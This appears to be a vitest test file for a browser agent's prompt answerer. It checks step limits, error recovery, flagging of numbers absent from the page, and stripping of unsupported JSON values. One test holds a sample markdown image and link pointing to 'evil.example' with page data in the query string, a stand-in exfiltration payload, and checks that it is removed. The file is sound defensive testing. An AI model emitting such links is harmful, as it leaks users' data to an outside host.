// The bounds of a model's work on a page, without a browser: what it looks at and does is written down instead.
import { describe, expect, it } from "vitest";
import type { Caller } from "../../accounts/index.ts";
import type { LanguageModel, Model } from "../../llm/index.ts";
import type { SessionPrograms } from "./execute.ts";
import type { LiveSession } from "./held-sessions.ts";
import { createPromptAnswerer } from "./prompt-answers.ts";

const { createModelUse } = await import("../../llm/index.ts");

type Fill = Model["fill"];

function answererOf(fill: Fill, shown = "") {
  const lines: string[] = [];
  const model = { name: "test", ask: fill as never, fill } satisfies Model;
  const limits = { contextTokens: 8000, maxOutputTokens: 1000, timeoutMs: 60_000, tokensPerRequest: 0 };
  const languageModel: LanguageModel = { name: "test", open: async (asker) => createModelUse(model, limits, asker) };
  const programs = {
    run: async (_live: unknown, { code }: { code: string }) => {
      lines.push(code);
      return { stdout: `- button "Go" [ref=e1]\n${shown}`, stderr: "" };
    },
  } as unknown as SessionPrograms;
  const answer = createPromptAnswerer(languageModel, programs);
  const ask = (timeoutSeconds = 30) =>
    answer({
      live: {} as LiveSession,
      prompt: "Go on",
      timeoutSeconds,
      caller: {} as Caller,
      signal: new AbortController().signal,
    });
  return { ask, lines };
}

const filled = (value: object) => ({
  ok: true as const,
  value,
  mode: "text" as const,
  isRepaired: false,
  isPartial: false,
  dropped: [],
  missing: [],
  tokens: { input: 1, output: 1 },
});
const unusable = {
  ok: false as const,
  code: "MODEL_ANSWER_UNUSABLE" as const,
  message: "no",
  tokens: { input: 1, output: 1 },
};

describe("a model's work on a page", () => {
  it("ends after twenty steps, each of one verb and one look", async () => {
    const { ask, lines } = answererOf(async () => filled({ tool: "click", element: 1 }));
    expect(await ask()).toMatchObject({ problem: "The task was not finished in 20 steps." });
    expect(lines).toHaveLength(21);
    expect(lines[1]).toMatch(/^agent-browser click @e1 ; agent-browser get url ; .* snapshot$/);
  });

  it("survives one mistake, not two in a row", async () => {
    let count = 0;
    const once = answererOf(async () => {
      count += 1;
      return count === 1 ? unusable : filled({ tool: "finish", answer: "Done." });
    });
    expect(await once.ask()).toEqual({ output: "Done.", problem: null, warning: null });
    await expect(answererOf(async () => unusable).ask()).rejects.toMatchObject({ code: "MODEL_ANSWER_UNUSABLE" });
  });

  const shown = '- text: Ada Lumen founded it in 1987, see https://a.example/about\n- textbox "Order 4711"';
  const finish = (answer: string) => answererOf(async () => filled({ tool: "finish", answer }), shown).ask();

  it("is answered with words whose numbers and addresses are on the page, or are named", async () => {
    const right = "Ada Lumen founded it in 1987 (https://a.example/about).";
    expect(await finish(right)).toEqual({ output: right, problem: null, warning: null });
    expect(await finish("It has 52,300 lamps since 1987.")).toEqual({
      output: "It has 52,300 lamps since 1987.",
      problem: null,
      warning: "The output has numbers that are not on the page: 52,300.",
    });
    const stolen = await finish("Done. ![x](https://evil.example/?d=Ada) [more](https://evil.example/?d=1987)");
    expect(stolen).toMatchObject({ output: "Done. x more", warning: expect.stringContaining("were left out") });
    expect(JSON.stringify(stolen)).not.toContain("evil");
  });

  it("is answered with JSON whose values are on the page; others are left out and named", async () => {
    expect(await finish('{"founder": "Ada Lumen", "year": 1987}')).toEqual({
      output: '{"founder": "Ada Lumen", "year": 1987}',
      problem: null,
      warning: null,
    });
    const made = '{"founder": "Bob Smith", "year": 1987, "tags": ["Ada Lumen", "cheap"], "isOld": true}';
    expect(await finish(made)).toEqual({
      output: '{"year":1987,"isOld":true,"tags":["Ada Lumen"]}',
      problem: null,
      warning: "Left out because the page does not support the language model's value: founder, tags[1].",
    });
  });
});
